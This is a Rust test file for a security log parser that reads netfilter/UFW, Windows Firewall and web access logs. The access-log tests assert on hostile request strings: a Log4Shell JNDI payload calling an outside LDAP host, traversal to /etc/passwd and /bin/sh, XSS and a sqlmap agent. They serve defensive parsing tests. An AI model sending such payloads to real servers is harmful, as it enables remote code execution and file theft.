//! Netfilter, Windows Firewall and web access-log parsing over our fixtures and, when
//! `../shared/corpus` exists, over the real corpus.
//!
//! Expected numbers were counted from the files with grep/awk, never taken from the parser's
//! output; each assertion says how.

mod common;

use std::collections::{BTreeMap, HashMap};
use std::hash::Hash;
use std::net::IpAddr;
use std::path::Path;

use common::{corpus, fixture};
use threatlens::engine::event::{Action, Event, EventFormat, Location};
use threatlens::engine::ingest::{FileReport, IngestOptions, InputFormat, ingest_file, netfilter};

fn ingest(path: &Path, format: Option<InputFormat>) -> (FileReport, Vec<Event>) {
    let options = IngestOptions {
        format,
        ..IngestOptions::default()
    };
    let mut events = Vec::new();
    let report = ingest_file(path, 0, &options, &mut |batch| events.extend(batch));
    (report, events)
}

/// Lines in a file the way the reader counts them: a last line without `\n` still counts.
fn line_count(path: &Path) -> u64 {
    let bytes = std::fs::read(path).expect("fixture is readable");
    let newlines = bytes.iter().filter(|b| **b == b'\n').count() as u64;
    newlines + u64::from(!bytes.is_empty() && !bytes.ends_with(b"\n"))
}

fn assert_accounted(report: &FileReport, path: &Path) {
    assert!(
        report.failure.is_none(),
        "{}: {:?}",
        path.display(),
        report.failure
    );
    assert_eq!(report.lines, line_count(path), "{}", path.display());
    assert_eq!(
        report.lines,
        report.parsed_lines + report.skipped + report.error_count,
        "{}",
        path.display()
    );
}

/// The message of a syslog-framed kernel line: after `kernel:` and an optional `[ uptime]`.
/// The real syslog parser does this framing; here it only feeds [`netfilter::parse_message`].
fn kernel_message(line: &str) -> Option<&str> {
    let (_, message) = line.split_once("kernel: ")?;
    let message = message.trim_start();
    match message.strip_prefix('[') {
        Some(rest)
            if rest
                .split_once(']')
                .is_some_and(|(stamp, _)| !stamp.contains('=')) =>
        {
            rest.split_once(']').map(|(_, after)| after.trim_start())
        }
        _ => Some(message),
    }
}

/// Runs `parse_message` over every kernel line of a file: (events, lines not netfilter, errors).
fn netfilter_events(path: &Path) -> (Vec<Event>, Vec<u64>, Vec<(u64, String)>) {
    let text = std::fs::read_to_string(path).expect("fixture is UTF-8 text");
    let mut events = Vec::new();
    let mut not_netfilter = Vec::new();
    let mut errors = Vec::new();
    for (index, line) in text.lines().enumerate() {
        let number = index as u64 + 1;
        let location = Location {
            file: 0,
            line: number,
        };
        let mut event = Event::new(location, EventFormat::Netfilter);
        match kernel_message(line).and_then(|m| netfilter::parse_message(m, &mut event)) {
            Some(Ok(())) => events.push(event),
            Some(Err(reason)) => errors.push((number, reason)),
            None => not_netfilter.push(number),
        }
    }
    (events, not_netfilter, errors)
}

fn ip(text: &str) -> Option<IpAddr> {
    Some(text.parse().expect("test address is valid"))
}

fn count_by<K: Hash + Eq>(events: &[Event], key: impl Fn(&Event) -> K) -> HashMap<K, usize> {
    let mut counts = HashMap::new();
    for event in events {
        *counts.entry(key(event)).or_default() += 1;
    }
    counts
}

// ---------------------------------------------------------------- netfilter

#[test]
fn netfilter_fixture_variants() {
    let (events, not_netfilter, errors) =
        netfilter_events(&fixture("netfilter/kernel_variants.log"));
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(not_netfilter, [15], "only the XX= line is not netfilter");
    assert_eq!(events.len(), 15);

    let by_line = |number: u64| events.iter().find(|e| e.location.line == number).unwrap();
    let actions: Vec<Action> = (1..=16)
        .filter(|n| *n != 15)
        .map(|n| by_line(n).action.unwrap())
        .collect();
    use Action::{Allow, Audit, Deny};
    assert_eq!(
        actions,
        [
            Deny, Allow, Audit, Audit, Deny, Deny, Deny, Deny, Deny, Deny, Audit, Deny, Deny, Deny,
            Allow
        ]
    );

    let ubiquiti = by_line(8);
    assert_eq!(ubiquiti.message.as_deref(), Some("[WAN_IN-3000-D]"));
    assert_eq!(ubiquiti.extra("direction"), Some("forward"));
    assert_eq!(ubiquiti.dst_port, Some(8443));

    let icmp = by_line(12);
    assert_eq!(icmp.src_ip, ip("198.51.100.99"));
    assert_eq!(icmp.dst_ip, ip("192.0.2.10"));
    assert_eq!((icmp.src_port, icmp.dst_port), (None, None));
    assert_eq!(icmp.extra("inner_dst"), Some("198.51.100.99"));
    assert_eq!(icmp.extra("inner_dpt"), Some("41234"));

    let v6 = by_line(13);
    assert_eq!(v6.src_ip, ip("2001:db8::a1"));
    assert_eq!(v6.dst_ip, ip("2001:db8::1"));

    assert_eq!(by_line(14).proto.as_deref(), Some("41"));
    assert_eq!(by_line(9).extra("physin"), Some("tap100i0"));
    assert_eq!(by_line(9).extra("ack"), Some("0"));
    assert_eq!(by_line(16).extra("direction"), Some("outbound"));
    assert_eq!(by_line(7).extra("payload_len"), Some("492"));
}

#[test]
fn netfilter_corpus_files() {
    let Some(corpus) = corpus() else { return };
    // (file, netfilter lines, lines that are not netfilter), counted with
    // `grep -c 'IN=.* OUT='` and by reading the non-matching lines.
    let expected = [
        ("beats_iptables_ipv6.log", 11, 0),
        ("beats_iptables_ubiquiti.log", 5, 0),
        ("crowdsec_iptables_ufw_portscan.log", 49, 0),
        ("crowdsec_iptables_variants.log", 3, 1),
        ("logstash_spec_suse_iptables_lines.txt", 5, 0),
        ("vps2022_ufw.log", 1832, 0),
        ("f2b_portsentry.log", 0, 4),
        ("f2b_scanlogd_portscan.log", 0, 8),
    ];
    for (name, netfilter_lines, other_lines) in expected {
        let path = corpus.join("iptables_ufw").join(name);
        let (events, not_netfilter, errors) = netfilter_events(&path);
        assert!(errors.is_empty(), "{name}: {errors:?}");
        assert_eq!(events.len(), netfilter_lines, "{name}");
        assert_eq!(not_netfilter.len(), other_lines, "{name}");

        let (report, through_syslog) = ingest(&path, Some(InputFormat::Syslog));
        assert_accounted(&report, &path);
        let netfilter = through_syslog
            .iter()
            .filter(|e| e.format == EventFormat::Netfilter)
            .count();
        assert_eq!(
            netfilter, netfilter_lines,
            "{name} through the syslog parser"
        );
    }

    let variants = corpus.join("iptables_ufw/crowdsec_iptables_variants.log");
    let (_, not_netfilter, _) = netfilter_events(&variants);
    assert_eq!(not_netfilter, [3], "line 3 has XX= where IN= belongs");

    let ipv6 = corpus.join("iptables_ufw/beats_iptables_ipv6.log");
    let (events, _, _) = netfilter_events(&ipv6);
    assert!(events[..10].iter().all(|e| e.src_ip == ip("2001:db8::1")));
    assert_eq!(events[10].extra("mark"), Some("0xd4"));
}

#[test]
fn netfilter_fixture_through_syslog() {
    let path = fixture("netfilter/kernel_variants.log");
    let (report, events) = ingest(&path, None);
    assert_eq!(report.format, Some(InputFormat::Syslog));
    assert_accounted(&report, &path);
    assert_eq!(events.len(), 15);
    assert!(events.iter().all(|e| e.format == EventFormat::Netfilter));
    assert!(events.iter().all(|e| e.location.line != 15), "XX= line");
    let icmp = events.iter().find(|e| e.location.line == 12).unwrap();
    assert_eq!(icmp.src_ip, ip("198.51.100.99"));
}

#[test]
fn vps2022_ufw_scanners() {
    let Some(corpus) = corpus() else { return };
    let path = corpus.join("iptables_ufw/vps2022_ufw.log");
    let (direct, _, _) = netfilter_events(&path);
    assert_vps2022_counts(&direct);

    let (report, through_syslog) = ingest(&path, None);
    assert_eq!(report.format, Some(InputFormat::Syslog));
    assert_accounted(&report, &path);
    assert!(
        through_syslog
            .iter()
            .all(|e| e.format == EventFormat::Netfilter)
    );
    assert_vps2022_counts(&through_syslog);
}

fn assert_vps2022_counts(events: &[Event]) {
    // grep -c '\[UFW BLOCK\]' → 1832 (every line).
    assert_eq!(events.len(), 1832);
    assert!(events.iter().all(|e| e.action == Some(Action::Deny)));
    assert!(
        events
            .iter()
            .all(|e| e.message.as_deref() == Some("[UFW BLOCK]"))
    );

    // grep -o ' DPT=[0-9]*' | sort | uniq -c | sort -rn | head.
    let ports = count_by(events, |e| e.dst_port);
    assert_eq!(ports[&Some(25)], 259);
    assert_eq!(ports[&Some(23)], 56);
    assert_eq!(ports[&Some(5555)], 38);
    assert_eq!(ports[&Some(80)], 29);
    assert_eq!(ports[&Some(81)], 29);
    assert_eq!(ports[&None], 1, "the one ICMP line has no port");

    // grep -o ' SRC=[^ ]*' | sort | uniq -c | sort -rn: 63, 55, 44, then 37.
    let sources = count_by(events, |e| e.src_ip);
    let heavy: BTreeMap<Option<IpAddr>, usize> = sources
        .into_iter()
        .filter(|(_, count)| (44..=63).contains(count))
        .collect();
    let expected = BTreeMap::from([
        (ip("193.233.182.221"), 63),
        (ip("79.124.62.86"), 55),
        (ip("79.124.62.78"), 44),
    ]);
    assert_eq!(heavy, expected);

    // grep -c 'OUT=ens3' → 910 forwarded; grep -c 'OUT= ' → 922 inbound.
    let directions = count_by(events, |e| e.extra("direction").map(str::to_owned));
    assert_eq!(directions[&Some("forward".to_owned())], 910);
    assert_eq!(directions[&Some("inbound".to_owned())], 922);

    // grep -o ' PROTO=[^ ]*' | sort | uniq -c.
    let protocols = count_by(events, |e| e.proto.clone());
    assert_eq!(protocols[&Some("tcp".to_owned())], 1714);
    assert_eq!(protocols[&Some("udp".to_owned())], 117);
    assert_eq!(protocols[&Some("icmp".to_owned())], 1);
}

// ---------------------------------------------------------------- Windows Firewall

#[test]
fn pfirewall_fixture_with_pid_and_crlf() {
    let path = fixture("pfirewall/pfirewall_pid_crlf.log");
    let (report, events) = ingest(&path, None);
    assert_eq!(report.format, Some(InputFormat::WindowsFirewall));
    assert_accounted(&report, &path);
    assert_eq!(report.lines, 14);
    assert_eq!(
        (report.parsed_lines, report.skipped, report.error_count),
        (8, 5, 1)
    );
    assert_eq!(report.errors[0].line, 13, "the row cut after src-port");

    let actions = count_by(&events, |e| e.extra("pf_action").map(str::to_owned));
    let count = |name: &str| actions[&Some(name.to_owned())];
    assert_eq!(
        (count("ALLOW"), count("DROP"), count("OPEN"), count("CLOSE")),
        (2, 3, 1, 1)
    );
    assert_eq!(count("INFO-EVENTS-LOST"), 1);

    let first = &events[0];
    assert_eq!(first.time, Some("2024-03-10T01:59:58Z".parse().unwrap()));
    assert_eq!(first.extra("pid"), Some("4120"));
    assert_eq!(
        first.extra("path"),
        Some("SEND"),
        "no \\r left in the last-but-one column"
    );
    let lost = events
        .iter()
        .find(|e| e.action == Some(Action::Audit))
        .unwrap();
    assert_eq!(lost.extra("events_lost"), Some("12"));
    let v6 = events
        .iter()
        .find(|e| e.src_ip.is_some_and(|a| a.is_ipv6()))
        .unwrap();
    assert_eq!(v6.dst_ip, ip("ff02::1:3"));
    assert_eq!(events.last().unwrap().proto.as_deref(), Some("2"));
}

#[test]
fn pfirewall_rows_before_any_header() {
    let path = fixture("pfirewall/pfirewall_no_header.log");
    let (report, events) = ingest(&path, Some(InputFormat::WindowsFirewall));
    assert_accounted(&report, &path);
    assert_eq!(report.parsed_lines, 2);
    assert_eq!(events[1].dst_port, Some(445));
    assert_eq!(events[1].extra("path"), Some("SEND"));
}

#[test]
fn win_pfirewall_home_2021() {
    let Some(corpus) = corpus() else { return };
    let path = corpus.join("firewall_other/win_pfirewall_home_2021.log");
    let (report, events) = ingest(&path, None);
    assert_eq!(report.format, Some(InputFormat::WindowsFirewall));
    assert_accounted(&report, &path);

    // wc -l → 16814: 4 `#` lines, 1 blank line, 16809 rows (awk '!/^#/ && NF>0').
    assert_eq!(report.lines, 16814);
    assert_eq!(report.skipped, 5);
    assert_eq!(report.error_count, 0, "{:?}", report.errors);
    assert_eq!(events.len(), 16809);

    // awk '!/^#/ && NF>0 {print $3}' | sort | uniq -c.
    let actions = count_by(&events, |e| e.action);
    assert_eq!(actions[&Some(Action::Allow)], 5119);
    assert_eq!(actions[&Some(Action::Deny)], 11688);
    assert_eq!(actions[&Some(Action::Audit)], 2);
    let lost: Vec<(u64, Option<&str>)> = events
        .iter()
        .filter(|e| e.action == Some(Action::Audit))
        .map(|e| (e.location.line, e.extra("events_lost")))
        .collect();
    assert_eq!(
        lost,
        [(11701, Some("7")), (16717, Some("1"))],
        "grep -n INFO"
    );

    // awk '!/^#/ && NF>0 && $5 ~ /:/' → 6995 IPv6 rows (3208 ALLOW, 3787 DROP).
    let v6: Vec<&Event> = events
        .iter()
        .filter(|e| e.src_ip.is_some_and(|a| a.is_ipv6()))
        .collect();
    assert_eq!(v6.len(), 6995);
    assert_eq!(
        v6.iter()
            .filter(|e| e.action == Some(Action::Allow))
            .count(),
        3208
    );

    // awk '{print $4, $NF}' | sort | uniq -c: SEND 16+38+1305+2448, RECEIVE 16+11+61+12912.
    let paths = count_by(&events, |e| e.extra("path").map(str::to_owned));
    assert_eq!(paths[&Some("SEND".to_owned())], 3807);
    assert_eq!(paths[&Some("RECEIVE".to_owned())], 13000);
    let protocols = count_by(&events, |e| e.proto.clone());
    assert_eq!(protocols[&Some("2".to_owned())], 32, "IGMP is written as 2");

    assert_eq!(
        events[0].time,
        Some("2021-06-22T12:19:41Z".parse().unwrap())
    );
}

#[test]
fn plaso_pfirewall() {
    let Some(corpus) = corpus() else { return };
    let path = corpus.join("firewall_other/plaso_windows_pfirewall.log");
    let (report, events) = ingest(&path, None);
    assert_accounted(&report, &path);
    // 4 header lines, then 9 DROP, 2 OPEN, 3 CLOSE, 1 INFO-EVENTS-LOST.
    assert_eq!((report.skipped, report.error_count), (4, 0));
    let actions = count_by(&events, |e| e.action);
    assert_eq!(actions[&Some(Action::Deny)], 9);
    assert_eq!(actions[&Some(Action::Connection)], 5);
    assert_eq!(actions[&Some(Action::Audit)], 1);
    let icmp = events
        .iter()
        .find(|e| e.proto.as_deref() == Some("icmp"))
        .unwrap();
    assert_eq!(icmp.extra("icmptype"), Some("8"));
    assert_eq!(events.last().unwrap().extra("events_lost"), Some("59"));
}

// ---------------------------------------------------------------- access logs

#[test]
fn access_fixture() {
    let path = fixture("web/access_mixed.log");
    let (report, events) = ingest(&path, None);
    assert_eq!(report.format, Some(InputFormat::WebAccess));
    assert_accounted(&report, &path);
    assert_eq!(
        (report.parsed_lines, report.skipped, report.error_count),
        (9, 1, 1)
    );
    assert_eq!(report.errors[0].line, 11);
    let line = |n: u64| events.iter().find(|e| e.location.line == n).unwrap();

    let log4shell = line(1);
    assert_eq!(
        log4shell.url.as_deref(),
        Some("/?x=${jndi:ldap://198.51.100.66:1389/Exploit}")
    );
    assert_eq!(
        log4shell.user_agent.as_deref(),
        Some("${jndi:ldap://198.51.100.66:1389/ua}")
    );
    assert_eq!(
        line(2).url.as_deref(),
        Some("/static/../../../../etc/passwd")
    );

    // Offsets worked out by hand: 13:01:02+01:00, 13:05:00-05:00, 00:30:00+05:30 (day
    // before), 23:59:59-09:30 (day after).
    let times: Vec<String> = (1..=4).map(|n| line(n).time.unwrap().to_string()).collect();
    assert_eq!(
        times,
        [
            "2021-12-10T12:01:02Z",
            "2021-12-10T18:05:00Z",
            "2021-12-10T19:00:00Z",
            "2021-12-12T09:29:59Z"
        ]
    );

    let vhost = line(4);
    assert_eq!(vhost.domain.as_deref(), Some("www.example.com"));
    assert_eq!(vhost.dst_port, Some(80));
    assert_eq!(vhost.user.as_deref(), Some("bob"));
    assert_eq!(vhost.bytes_in, None);
    assert_eq!(
        vhost.extra("referer"),
        Some("https://www.example.com/login")
    );

    let tls = line(5);
    assert_eq!(
        (tls.http_method.as_deref(), tls.url.as_deref()),
        (None, None)
    );
    assert!(tls.extra("request").unwrap().starts_with("\\x16\\x03\\x01"));

    let quotes = line(6);
    assert_eq!(
        quotes.url.as_deref(),
        Some("/search?q=\"quoted\"&t=<script>alert(\"x\")</script>")
    );
    assert_eq!(quotes.user_agent.as_deref(), Some("sqlmap/1.5 (\"test\")"));
    assert_eq!(quotes.extra("quoted_field_3"), Some("203.0.113.200"));

    assert_eq!(line(7).http_status, Some(408));
    assert_eq!(
        line(8).user_agent.as_deref(),
        Some("Mozilla/5.0 (compatible; ExampleBot/2.1; +http://www.example.org/bot.html")
    );
    assert_eq!(line(9).url.as_ref().map(String::len), Some(1 + 3 * 3000));
}

/// Access logs of the corpus, sniffed: (file, events, errors). `wc -l`/awk for the counts.
const SNIFFED_ACCESS_LOGS: [(&str, u64, u64); 6] = [
    ("crowdsec_apache_http_probing.log", 77, 0),
    ("crowdsec_nginx_path_traversal.log", 9, 0),
    ("crowdsec_nginx_sqli.log", 16, 0),
    ("crowdsec_nginx_xss.log", 26, 0),
    ("plaso_apache_access.log", 15, 0),
    ("vps2022_apache_access.log.1", 110, 0),
];

/// fail2ban's web files open with `#` comments and mix in error-log lines, so they are read
/// as access logs by force: (file, access-log lines, other lines), counted with
/// `grep -c '^[^ ]* - [^ ]* \['` and `grep -vc '^#\|^$'` minus the former.
const FORCED_ACCESS_LOGS: [(&str, u64, u64); 4] = [
    ("f2b_nginx_botsearch.log", 8, 6),
    ("f2b_apache_botsearch.log", 0, 19),
    ("f2b_apache_overflows.log", 0, 11),
    ("f2b_nginx_http_auth.log", 0, 18),
];

#[test]
fn access_corpus_files() {
    let Some(corpus) = corpus() else { return };
    for (name, events, errors) in SNIFFED_ACCESS_LOGS {
        let path = corpus.join("web_access").join(name);
        let (report, _) = ingest(&path, None);
        assert_eq!(report.format, Some(InputFormat::WebAccess), "{name}");
        assert_accounted(&report, &path);
        assert_eq!(
            (report.events, report.error_count),
            (events, errors),
            "{name}"
        );
    }
    for (name, events, errors) in FORCED_ACCESS_LOGS {
        let path = corpus.join("web_access").join(name);
        let (report, _) = ingest(&path, Some(InputFormat::WebAccess));
        assert_accounted(&report, &path);
        assert_eq!(
            (report.events, report.error_count),
            (events, errors),
            "{name}"
        );
    }
}

#[test]
fn plaso_access_edge_lines() {
    let Some(corpus) = corpus() else { return };
    let (_, events) = ingest(&corpus.join("web_access/plaso_apache_access.log"), None);
    let line = |n: u64| events.iter().find(|e| e.location.line == n).unwrap();

    // Line 8: the Googlebot user agent has no closing quote.
    assert_eq!(
        line(8).user_agent.as_deref(),
        Some("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html")
    );
    assert_eq!(
        line(8).url.as_deref(),
        Some("/scripts/grok-py-test/configlib.py")
    );
    // Line 5: 19:31:20 +0200; line 15: 09:46:42 +0200.
    assert_eq!(line(5).time, Some("2016-01-13T17:31:20Z".parse().unwrap()));
    assert_eq!(line(15).time, Some("2019-11-16T07:46:42Z".parse().unwrap()));
    assert_eq!(line(15).user.as_deref(), Some("pyllyukko@EXAMPLE.COM"));
    // Line 9: vhost-combined.
    assert_eq!(line(9).domain.as_deref(), Some("plaso.log2timeline.net"));
    assert_eq!(line(9).dst_port, Some(443));
    // Line 13: quotes inside the request are not escaped.
    assert_eq!(
        line(13).url.as_deref(),
        Some("/aaaa.xxxx/SomeText?action=edit&template=<script>alert(\"text\")</script>")
    );
}

#[test]
fn vps2022_access_hostile_requests() {
    let Some(corpus) = corpus() else { return };
    let (_, events) = ingest(&corpus.join("web_access/vps2022_apache_access.log.1"), None);
    let line = |n: u64| events.iter().find(|e| e.location.line == n).unwrap();

    // grep -n '\\x16' → lines 25 and 66, TLS client hellos on port 80.
    for n in [25, 66] {
        assert_eq!(line(n).http_method, None);
        assert!(
            line(n)
                .extra("request")
                .unwrap()
                .starts_with("\\x16\\x03\\x01")
        );
        assert_eq!(line(n).http_status, Some(400));
    }
    let traversal = events
        .iter()
        .find(|e| e.url.as_deref().is_some_and(|u| u.contains(".%2e/.%2e/")))
        .unwrap();
    assert_eq!(traversal.http_method.as_deref(), Some("POST"));
    assert_eq!(
        traversal.url.as_deref(),
        Some("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh")
    );
    assert_eq!(traversal.http_status, Some(400));
    // `::1` internal dummy connection.
    assert!(events.iter().any(|e| e.src_ip == ip("::1")));
}
